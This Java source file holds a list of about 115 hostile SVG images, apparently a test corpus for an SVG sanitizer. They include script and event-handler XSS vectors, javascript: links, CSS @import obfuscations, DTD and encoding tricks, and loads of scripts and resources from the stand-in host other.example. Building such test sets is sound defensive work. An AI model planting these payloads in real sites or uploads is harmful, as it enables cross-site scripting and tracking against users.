package dev.cribsheet;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** SVG files that run a script, load a file or navigate away when a browser opens them. */
final class HostileImages {
  private static final String ROOT =
      "<svg xmlns='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml'"
          + " xmlns:l='http://www.w3.org/1999/xlink' width='99' height='99'>";

  /** The contents of images; {@code E} stands for the URL of another host. */
  private static final List<String> PARTS =
      List.of(
          "<script>alert(1)</script>",
          "<script><![CDATA[alert(1)]]></script>",
          "<script href='data:text/javascript,alert(1)'/>",
          "<script l:href='E/a.js'/>",
          "<script type='module'>alert(1)</script>",
          "<h:script>alert(1)</h:script>",
          "<h:script src='E/a.js'/>",
          "<x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>",
          "<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>",
          "<metadata><script>alert(1)</script></metadata>",
          "<title><h:script>alert(1)</h:script></title>",
          "<desc><h:iframe src='javascript:top.alert(1)'/></desc>",
          "<i:a xmlns:i='http://www.inkscape.org/namespaces/inkscape'><script>alert(1)</script></i:a>",
          "<foreignObject><h:iframe srcdoc='&lt;script>top.alert(1)&lt;/script>'/></foreignObject>",
          "<foreignObject><h:body onload='alert(1)'/></foreignObject>",
          "<foreignObject><h:form action='E'><h:input autofocus='' onfocus='alert(1)'/></h:form>"
              + "</foreignObject>",
          "<h:iframe src='E/a.html'/>",
          "<h:object data='E/a.svg'/>",
          "<h:embed src='E/a.svg'/>",
          "<h:img src='x' onerror='alert(1)'/>",
          "<h:img srcset='E/a.png 1x'/>",
          "<h:picture><h:source srcset='E/a.png'/><h:img/></h:picture>",
          "<h:video src='E/a.mp4' poster='E/a.png' autoplay=''/>",
          "<h:audio src='E/a.mp3' onerror='alert(1)'/>",
          "<h:table background='E/a.png'><h:tr><h:td background='E/b.png'/></h:tr></h:table>",
          "<h:body background='E/a.png'/>",
          "<h:input type='image' src='E/a.png'/>",
          "<h:link rel='stylesheet' href='E/a.css'/>",
          "<h:link rel='preload' as='image' href='E/a.png'/>",
          "<h:link rel='icon' href='E/a.png'/>",
          "<h:base href='E/'/><image href='a.png' width='9' height='9'/>",
          "<h:meta http-equiv='refresh' content='0;url=E/'/>",
          "<h:style>@import 'E/a.css';</h:style>",
          "<h:div style='background:url(E/a.png)'>a</h:div>",
          "<animate onbegin='alert(1)' attributeName='x' dur='1s'/>",
          "<animate onend='alert(1)' attributeName='x' dur='1ms'/>",
          "<rect width='9' height='9' onmouseover='alert(1)' onclick='alert(1)' onfocus='alert(1)'/>",
          "<rect width='9' height='9' tabindex='0' onfocusin='alert(1)' onactivate='alert(1)'/>",
          "<image href='x.png' onerror='alert(1)'/>",
          "<style onload='alert(1)'>a{}</style>",
          "<style>@keyframes a{}rect{animation:a 1s}</style><rect onanimationstart='alert(1)'/>",
          "<a href='javascript:alert(1)'><rect width='99' height='99'/></a>",
          "<a l:href='java&#10;script:alert(1)'><rect width='99' height='99'/></a>",
          "<a href='data:text/html,&lt;script>alert(1)&lt;/script>'><rect width='99' height='99'/></a>",
          "<a href='E/'><rect width='99' height='99'/></a>",
          "<a><set attributeName='href' to='javascript:alert(1)'/><rect width='99' height='99'/></a>",
          "<a id='m'><rect width='99' height='99'/></a>"
              + "<animate href='#m' attributeName='href' values='javascript:alert(1)'/>",
          "<image width='9' height='9'><set attributeName='href' to='E/a.png'/></image>",
          "<image width='9' height='9'><animate attributeName='l:href' values='E/a.png'/></image>",
          "<rect><set attributeName='onclick' to='alert(1)'/></rect>",
          "<rect width='9' height='9'><set attributeName='fill' to='url(E/a.svg#b)'/></rect>",
          "<rect width='9' height='9'><animate attributeName='style' values='fill:url(E/a.svg#b)'/>"
              + "</rect>",
          "<use href='E/a.svg#b'/>",
          "<use href='data:image/svg+xml,&lt;svg id=\"a\" onload=\"alert(1)\"/>#a'/>",
          "<image href='E/a.png' width='9' height='9'/>",
          "<image l:href='//other.example/a.png' width='9' height='9'/>",
          "<image href='a.png' width='9' height='9'/>",
          "<image href='data:image/svg+xml,&lt;svg onload=\"alert(1)\"/>' width='9' height='9'/>",
          "<filter id='f'><feImage href='E/a.png'/></filter>"
              + "<rect width='9' height='9' filter='url(#f)'/>",
          "<linearGradient id='g' href='E/a.svg#g'/><rect width='9' height='9' fill='url(#g)'/>",
          "<textPath href='E/a.svg#b'>a</textPath>",
          "<text><textPath href='E/a.svg#b'>a</textPath><tref l:href='E/a.svg#b'/></text>",
          "<cursor href='E/a.png' id='c'/><rect cursor='url(#c)'/>",
          "<color-profile l:href='E/a.icc' name='a'/>",
          "<font-face><font-face-src><font-face-uri l:href='E/a.ttf'/></font-face-src></font-face>",
          "<g xml:base='E/'><image href='a.png' width='9' height='9'/></g>",
          "<rect width='9' height='9' fill='url(E/a.svg#b)'/>",
          "<rect width='9' height='9' style='fill:url(E/a.svg#b)'/>",
          "<rect width='9' height='9' mask='url(E/a.svg#b)' filter='url(E/a.svg#c)'/>",
          "<rect width='9' height='9' fill='\\75 rl(E/a.svg#b)'/>",
          "<rect width='9' height='9' style='mask-image:image-set(\"E/a.png\" 1x)'/>",
          "<rect width='9' height='9' style='cursor:url(E/a.png),auto'/>",
          "<rect width='9' height='9' style='--a:url(E/a.png);background:var(--a)'/>",
          "<style>@import 'E/a.css';</style>",
          "<style>@import url(E/a.css) layer(a);</style>",
          "<style>@im<!-- -->port 'E/a.css';</style>",
          "<style>@im<![CDATA[port]]> 'E/a.css';</style>",
          "<style>@im<g/>port 'E/a.css';</style>",
          "<style>@\\69mport 'E/a.css';</style>",
          "<style>&#64;import 'E/a.css';</style>",
          "<style><g/></style><style>@import 'E/a.css';</style>",
          "<style>@font-face{font-family:a;src:url(E/a.ttf)}text{font-family:a}</style><text>a</text>",
          "<style>svg{background:url(E/a.png)}</style>",
          "<style>svg{background:u\\rl(E/a.png)}</style>",
          "<style>svg{background-image:image-set('E/a.png' 1x)}</style>",
          "<style>svg{background-image:-webkit-image-set(url(E/a.png) 1x)}</style>",
          "<style>svg{background:-webkit-cross-fade(url(E/a.png),url(E/b.png),50%)}</style>",
          "<style>svg::before{content:url(E/a.png)}svg{list-style:url(E/a.png)}</style>",
          "<style>svg{background:/**/url(E/a.png)}</style>",
          "<style>a{content:'}svg{background:url(E/a.png)}'}</style>",
          "<style>a{b:'\\'}svg{background:url(E/a.png)}'}</style>",
          "<style>a{b:'\n}svg{background:url(E/a.png)}'}</style>",
          "<style>@media all{svg{background:url(E/a.png)}}</style>",
          "<style>@supports (fill:red){@import 'E/a.css';svg{background:url(E/a.png)}}</style>",
          "<style>svg{&amp;{background:url(E/a.png)}}</style>",
          "<style>@namespace 'E';@layer a{svg{background:url(E/a.png)}}</style>",
          "<style>@property --a{syntax:'*';inherits:true;initial-value:url(E/a.png)}"
              + "svg{background:var(--a)}</style>",
          "<style>@container (min-width:1px){svg{background:url(E/a.png)}}</style>",
          "<style>@keyframes a{from,to{background:url(E/a.png)}}svg{animation:a 1s}</style>",
          "<style>svg{background:src('E/a.png')}</style>",
          "<style type='text/css' media='all'>svg{background:URL( \"E/a.png\" )}</style>");

  /** Whole files, because their beginning is part of the attack. */
  private static final List<String> WHOLE =
      List.of(
          "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='alert(1)'/>",
          "<?xml-stylesheet href='E/a.css'?>" + ROOT + "</svg>",
          "<?xml-stylesheet type='text/xsl' href='E/a.xsl'?>" + ROOT + "</svg>",
          "<!DOCTYPE svg [<!ENTITY a '<script>alert(1)</script>'>]>" + ROOT + "&a;</svg>",
          "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'alert(1)'>]>" + ROOT + "</svg>",
          "<!DOCTYPE svg SYSTEM 'E/a.dtd'>" + ROOT + "</svg>",
          "<!DOCTYPE svg [<!ENTITY % a SYSTEM 'E/a.dtd'>%a;]>" + ROOT + "</svg>",
          "<?xml version='1.0' encoding='UTF-7'?>" + ROOT + "+ADw-script+AD4-alert(1)</svg>",
          "<?xml version='1.0' encoding='gb18030'?>" + ROOT + "<script>alert(1)</script></svg>",
          "<?xml version='1.0' encoding='big5'?>" + ROOT + "<script>alert(1)</script></svg>",
          "<?xml version='1.0' encoding='UTF-16'?>" + ROOT + "<script>alert(1)</script></svg>",
          ROOT
              + IntStream.range(0, 10_001)
                  .mapToObj(i -> " a" + i + "=''")
                  .collect(Collectors.joining("", "<g", "/>"))
              + "<script>alert(1)</script></svg>",
          ROOT + "<" + "g".repeat(1_001) + "/><script>alert(1)</script></svg>",
          "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
          "<h:html xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></h:html>");

  private HostileImages() {}

  static List<String> all() {
    List<String> all = new ArrayList<>();
    PARTS.forEach(part -> all.add(ROOT + part + "</svg>"));
    all.addAll(WHOLE);
    return all.stream().map(text -> text.replaceAll("\\bE\\b", "https://other.example")).toList();
  }
}
